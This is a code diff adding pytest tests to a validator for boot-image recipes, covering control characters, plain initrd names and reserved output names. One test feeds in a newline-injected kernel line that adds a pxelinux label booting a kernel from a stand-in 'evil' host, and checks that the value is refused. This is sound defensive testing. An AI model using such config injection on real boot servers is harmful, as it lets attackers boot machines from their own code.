@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import json
 from pathlib import Path
 
 import pytest
@@ -120,7 +121,7 @@ appendix = "x"
         "overlay[0].target: unknown key",
         "vars.bad-name: not a valid variable name",
         "vars.list: expected a string, number or boolean, got an array",
-        "boot.initrd_name: 'sub/core.gz' is not a plain file name",
+        "boot.initrd_name: 'sub/core.gz' is not a plain file name (up to 128 letters, digits",
         "boot.appendix: unknown key (did you mean 'append'?)",
         "extra: unknown key",
     ]
@@ -286,7 +287,90 @@ ok = 3
         "boot.prompt: expected true or false, got a string",
         "boot.labels.tinycore: a label is 1-32 letters, digits, '_', '.', '-' and not "
         "'tinycore' (the default label)",
-        "boot.labels.a b: a label is 1-32 letters, digits, '_', '.', '-' and not "
+        "boot.labels.\"a b\": a label is 1-32 letters, digits, '_', '.', '-' and not "
         "'tinycore' (the default label)",
         "boot.labels.ok: expected a kernel line (a string), got an integer",
     ]
+
+
+def test_a_newline_in_the_kernel_line_is_one_problem_naming_the_key(tmp_path: Path) -> None:
+    """It used to be accepted and published as a pxelinux config with an extra label."""
+    path = write(tmp_path, '[tinycore]\nrelease = "15.x"\n[boot]\n'
+                 'append = "base\\nLABEL evil\\n KERNEL http://evil/x"\n')
+    assert problems(path) == [
+        f"{path}: boot.append: a newline (U+000A) at character 5; control characters are "
+        "refused (in a boot config or a kernel line they would break the line)"]
+
+
+@pytest.mark.parametrize("char", ["\0", "\t", "\n", "\r", "\x1b", "\x7f", "\x85", "\u2028"])
+def test_control_characters_are_refused_wherever_a_value_reaches_a_config(
+    tmp_path: Path, char: str
+) -> None:
+    escaped = f"\\u{ord(char):04X}"
+    (tmp_path / "ov").mkdir()
+    path = write(tmp_path, f"""
+[tinycore]
+release = "15.x"
+mirrors = ["http://m/{escaped}"]
+[[overlay]]
+source = "ov{escaped}"
+[files."/opt/a{escaped}"]
+mode = "0644"
+[boot]
+append = "base {escaped}"
+initrd_name = "core{escaped}.gz"
+[boot.labels]
+debug = "x{escaped}"
+"a{escaped}" = "y"
+""")
+    found = [line.split(": ", 1)[1] for line in problems(path)]
+    assert [line.split(": ")[0] for line in found] == [
+        "tinycore.mirrors[0]", "overlay[0].source", f'files.{json.dumps(f"/opt/a{char}")}',
+        "boot.append", "boot.initrd_name", "boot.labels.debug",
+        f'boot.labels.{json.dumps(f"a{char}")}'], found
+    assert all(f"(U+{ord(char):04X})" in line for line in found)
+    assert all(char not in line for line in found)  # each problem stays on its line
+
+
+def test_template_values_may_hold_tabs_and_newlines_only(tmp_path: Path) -> None:
+    recipe = load_recipe(write(tmp_path, '[tinycore]\nrelease = "15.x"\n'
+                               '[vars]\nmotd = """two\n\tlines\n"""\n'))
+    assert recipe.vars["motd"] == "two\n\tlines\n"
+    for escaped, name in (("\\u0000", "NUL (U+0000)"), ("\\r", "a carriage return (U+000D)")):
+        path = write(tmp_path, f'[tinycore]\nrelease = "15.x"\n[vars]\nmotd = "a{escaped}"\n')
+        assert problems(path) == [
+            f"{path}: vars.motd: {name} at character 2; template values may hold tabs and "
+            "newlines, no other control character"]
+
+
+@pytest.mark.parametrize(
+    ("flavor", "name", "why"),
+    [
+        ("corepure64", "vmlinuz64", "the kernel's name"),
+        ("core", "VMLINUZ", "the kernel's name"),  # an ISO 9660 name has one case
+        ("core", "build.json", "the build's manifest"),
+        ("core", "release.json", "a release's manifest in the TFTP root"),
+        ("core", "site.iso", "the name of the recipe's ISO"),
+        ("core", "site.lock", "the name of the recipe's lock file"),
+    ],
+)
+def test_the_initrd_may_not_take_another_output_name(
+    tmp_path: Path, flavor: str, name: str, why: str
+) -> None:
+    path = write(tmp_path, f'[tinycore]\nrelease = "15.x"\nflavor = "{flavor}"\n'
+                 f'[boot]\ninitrd_name = "{name}"\n', name="site.toml")
+    assert problems(path) == [f"{path}: boot.initrd_name: '{name}' is {why}"]
+
+
+@pytest.mark.parametrize("name", [".core.gz", "-core.gz", "core gz", "core,extra.gz", "a/b"])
+def test_the_initrd_name_is_plain(tmp_path: Path, name: str) -> None:
+    path = write(tmp_path, f'[tinycore]\nrelease = "15.x"\n[boot]\ninitrd_name = "{name}"\n')
+    assert problems(path) == [f"{path}: boot.initrd_name: '{name}' is not a plain file name "
+                              "(up to 128 letters, digits and . _ + -, starting with a letter "
+                              "or digit)"]
+
+
+def test_reserved_names_are_the_ones_build_and_publish_write() -> None:
+    from tcbuild import manifest, tftp
+
+    assert manifest.MANIFEST == "build.json" and tftp.RELEASE_JSON == "release.json"
